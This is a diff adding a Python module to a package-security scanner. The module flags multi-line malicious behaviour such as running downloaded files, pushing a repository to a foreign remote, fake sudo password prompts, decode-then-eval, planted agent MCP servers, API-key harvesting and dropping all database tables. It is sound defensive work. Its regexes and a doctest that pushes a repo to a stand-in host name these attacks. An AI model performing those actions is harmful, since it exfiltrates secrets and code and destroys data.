@@ -1,0 +1,177 @@
+"""What does a program do in several lines of which each alone is harmless?
+
+A file is kept and run by the name that holds its path, a name is given to somebody else's repository and all is pushed
+there, a function decodes what a later line runs. Names are followed as text, from a first line to a second.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator, Sequence
+
+from metier.govern.scan.flow import Step
+from metier.govern.scan.hosts import Place, place_of
+from metier.govern.scan.labels import SECRET_NAME
+from metier.govern.scan.purpose import Purpose
+from metier.govern.scan.seen import Seen, place_of_step
+from metier.verdict import Severity
+
+_KEEPS = re.compile(
+    r"(?:createWriteStream|writeFile(?:Sync)?|urlretrieve\([^,]{1,200},|DownloadFile\([^,]{1,200},|(?<![\w.])open(?=\(\s*\w+\s*,\s*[\"'][wax]))\s*\(?\s*\$?([A-Za-z_]\w*)\b"
+)
+"""A file is written whose path a name holds."""
+_RETURNS = re.compile(r"return\s+(\w+)$")
+_RUN_BY = (
+    r"(?:spawn|exec|fork|Popen|\brun|\bcall|check_\w+|startfile|\.system|run_path|import_module|spec_from_file_location|\brequire|\bimport|CDLL|LoadLibrary|Start-Process)\w*"
+    r"\s*\(\s*(?:[\"']\w+[\"'],\s*)?[\[(]?\s*(?:(?:[\"'](?:/\S+/)?(?:(?:ba|z|da)?sh|python3?|node|sudo|open)[\"']|sys\.executable|process\.execPath)\s*,\s*\[?\s*)?(?:str\(|pathToFileURL\()?"
+)
+_IN_PROCESS = re.compile(r"run_path|import_module|spec_from_file_location|\brequire\b|\bimport\s*\(|CDLL|LoadLibrary")
+_REMOTE = re.compile(r"git\s+remote\s+(?:add|set-url)\s+(?:-\S+\s+)*(\S+)\s+(\S+)")
+_PUSHES = re.compile(r"git\s+push\b(?:\s+-\S+)*\s+(\S+)(.*)")
+_FAKE_SUDO = re.compile(
+    r"(?:^|[\s;\"'])(?:function\s+)?(?:sudo|su|ssh)\s*(?:\(\))?\s*\{[^}]{0,200}\bread\s+-\w*s|alias\s+sudo="
+)
+_FUNCTION = re.compile(r"^(?:function\s+)?([\w.-]+)\s*(?:\(\))?\s*\{")
+_MCP_ADDRESS = re.compile(
+    r"mcpServers[\s\S]{0,400}?(?:\burl\b|\bargs\b)[\"']?\s*[:=][\s\S]{0,120}?[\"'](https?://[^\"'\s]+)", re.I
+)
+_GATHERS = re.compile(
+    r"(?:environ(?:\.get)?[\[(]|getenv\()\s*(\w+)\b[^\n]{0,120}\bfor\s+\1\s+in\b|\bfor\s+(\w+)\s+in\b[^\n]*\n[^\n]*environ(?:\.get)?[\[(]\s*\2\b|\b(\w+)\)?\s*=>[^\n]{0,80}process\.env\[\s*\3\s*\]|of\s+\w+\)[^\n]*\n?[^\n]*process\.env\[\s*\w+\s*\]"
+)
+"""The variables of a list are read one by one."""
+_WELL_KNOWN = re.compile(r"AWS_|ANTHROPIC|OPENAI|GEMINI|GITHUB|GH_TOKEN|STRIPE|NPM_|DOCKER|AZURE|GCP_|SLACK|TWILIO")
+_DROPS = re.compile(
+    r"(?:pg_tables|information_schema\.tables|sqlite_master|SHOW TABLES|list_collection_names|listCollections)[\s\S]{0,400}(?:DROP\s+TABLE|TRUNCATE|DELETE\s+FROM|\.drop(?:_collection)?\()",
+    re.I,
+)
+_DEFENCES = re.compile(
+    r"(Set-MpPreference)|(Add-MpPreference)|(advfirewall)|(setenforce)|(\bufw\b)|(spctl)|(csrutil)|(Amsi)|(auditd|auditctl)|(apparmor)|(iptables)",
+    re.I,
+)
+
+
+def passages(steps: Sequence[Step], together: frozenset[str], purpose: Purpose, text: str) -> Iterator[Seen]:
+    """What several lines of one program do together.
+
+    Args:
+        steps: Every step of the program.
+        together: All labels of the steps.
+        purpose: What the package says that it is for.
+        text: The beginning of the program.
+
+    >>> from metier.govern.scan.statement import Statement
+    >>> lines = ["git remote add x https://drop.invalid/a.git", "git push -q x --all"]
+    >>> steps = [Step(Statement("a.sh", n, line, is_shell=True), frozenset(), ()) for n, line in enumerate(lines)]
+    >>> [(seen.rule, seen.severity.value) for seen in passages(steps, frozenset({"send"}), Purpose(), "\\n".join(lines))]
+    [('send-private', 'block')]
+    """
+    if "fetch" in together and together & {"execute", "load-code"}:
+        yield from _kept_and_run(steps, purpose)
+    if "git push" in text and "git remote" in text:
+        yield from _pushed(steps, purpose)
+    if "sudo" in text and ("read -" in text or "alias" in text) and _FAKE_SUDO.search(text):
+        yield Seen("send-secrets", Severity.BLOCK, steps[0], "a stand-in for sudo that asks for the password")
+    if "decode" in together and "$(" in text:
+        yield from _decoded_by_function(steps)
+    if "mcpServers" in text and together & {"write", "agent-write"}:
+        yield from _planted_server(steps, purpose, text)
+    if "send" in together and ("environ" in text or "getenv" in text or "process.env[" in text):
+        yield from _gathered(steps, purpose, text)
+    if "database" in together or "drop" in text.lower():
+        yield from _dropped(steps, purpose, text)
+    if "disable-defence" in together and not purpose.is_security:
+        off = [step for step in steps if "disable-defence" in step.labels]
+        kinds = {found.lastindex for step in off for found in _DEFENCES.finditer(step.text)}
+        if len(kinds) > 1:
+            yield Seen("disable-defence", Severity.BLOCK, off[0], "several of them")
+
+
+def _kept_and_run(steps: Sequence[Step], purpose: Purpose) -> Iterator[Seen]:
+    """What was fetched is written to a file whose path a name holds, and the name is run."""
+    kept: set[str] = set()
+    for number, step in enumerate(steps):
+        if step.statement.is_shell or not (found := _KEEPS.search(step.text)):
+            continue
+        if any("download" in near.received for near in steps[number : number + 4]):
+            kept.add(found[1])
+    if not kept:
+        return
+    # A function that returns the path stands for it.
+    for step in steps:
+        if (back := _RETURNS.match(step.text)) and back[1] in kept:
+            kept |= {name.removesuffix("()") for name in step.statement.assigns}
+    runs = re.compile(_RUN_BY + rf"\$?(?:{'|'.join(map(re.escape, sorted(kept)))})\b")
+    places = [place_of(url, own_words=purpose.words) for step in steps for url in step.urls if _begins_download(step)]
+    place = max(places, default=Place.PLACEHOLDER)
+    for step in steps:
+        if not step.labels & {"execute", "load-code"} or step.statement.is_shell or not runs.search(step.text):
+            continue
+        unseen = "hidden-run" in step.labels or _IN_PROCESS.search(step.text) is not None
+        if place in (Place.OWN, Place.PLATFORM):
+            weight = Severity.BLOCK if unseen and place == Place.OWN else Severity.REVIEW
+            yield Seen("run-download", weight, step)
+        elif place >= Place.UNKNOWN:
+            yield Seen("run-download", Severity.BLOCK, step)
+
+
+def _begins_download(step: Step) -> bool:
+    return "fetch" in step.labels or not step.labels
+
+
+def _pushed(steps: Sequence[Step], purpose: Purpose) -> Iterator[Seen]:
+    """All of a repository goes to a remote that the program added."""
+    remotes: dict[str, Place] = {}
+    for step in steps:
+        if added := _REMOTE.search(step.text):
+            remotes[added[1]] = place_of(added[2], own_words=purpose.words)
+        elif pushed := _PUSHES.search(step.text):
+            place = remotes.get(pushed[1], Place.LOCAL)
+            if place >= Place.UNKNOWN:
+                everything = "--all" in step.text or "--mirror" in step.text or "/dev/null" in pushed[2]
+                yield Seen("send-private", Severity.BLOCK if everything else Severity.REVIEW, step, "the repository")
+
+
+def _decoded_by_function(steps: Sequence[Step]) -> Iterator[Seen]:
+    """A function of the shell decodes, and what it gives is run."""
+    shell = [step for step in steps if step.statement.is_shell]
+    names = {found[1] for step in shell if "decode" in step.labels and (found := _FUNCTION.match(step.text))}
+    if not names:
+        return
+    call = rf"\$\(\s*(?:{'|'.join(map(re.escape, sorted(names)))})\s"
+    held = {found[1] for step in shell if (found := re.match(rf"(\w+)=[\"']?{call}", step.text))}
+    run = r"(?:\beval|\bsource|(?:ba|z|da)?sh\s+-\w*c|\$\{?(?:SHELL|0)\}?\s+-\w*c)\s+"
+    what = "|".join([call, *(rf"\$\{{?{re.escape(name)}\b" for name in sorted(held))])
+    for step in shell:
+        if re.search(rf"{run}(?:{what})", step.text):
+            yield Seen("run-encoded", Severity.BLOCK, step)
+
+
+def _planted_server(steps: Sequence[Step], purpose: Purpose, text: str) -> Iterator[Seen]:
+    """The agent is given a server of somebody else."""
+    found = _MCP_ADDRESS.search(text)
+    if found is None or not any(step.labels & {"agent-memory", "agent-write", "agent-credentials"} for step in steps):
+        return
+    place = place_of(found[1], own_words=purpose.words)
+    step = next(step for step in steps if step.labels & {"agent-memory", "agent-write", "agent-credentials"})
+    if place >= Place.UNKNOWN or (place == Place.OWN and not purpose.says(r"\bmcp\b|server|connect|integrat")):
+        weight = Severity.BLOCK if place.is_shady or purpose.is_small else Severity.REVIEW
+        yield Seen("loosen-agent", weight, step, "and plants a server of its own")
+
+
+def _gathered(steps: Sequence[Step], purpose: Purpose, text: str) -> Iterator[Seen]:
+    """Keys of several services are read by a list of their names, where something is sent."""
+    names = {name for name in SECRET_NAME.findall(text) if _WELL_KNOWN.search(name)}
+    if len(names) < 2 or not _GATHERS.search(text):
+        return
+    away = [(place_of_step(step, purpose), step) for step in steps if "send" in step.labels]
+    place, step = max(away, key=lambda pair: pair[0])
+    if place >= Place.UNKNOWN or place == Place.OWN:
+        weight = Severity.BLOCK if place >= Place.UNKNOWN else Severity.REVIEW
+        yield Seen("harvest-secrets", weight, step, "read by a list of their names")
+
+
+def _dropped(steps: Sequence[Step], purpose: Purpose, text: str) -> Iterator[Seen]:
+    """Every table that a database lists is dropped."""
+    if _DROPS.search(text) and not purpose.says(r"drop|reset|clean|migrat|seed|wipe|truncat|test|fixture|schema|delet"):
+        step = next((step for step in steps if re.search(r"DROP|TRUNCATE|DELETE|\.drop", step.text)), steps[0])
+        yield Seen("destroy-files", Severity.BLOCK, step, "every table of a database")
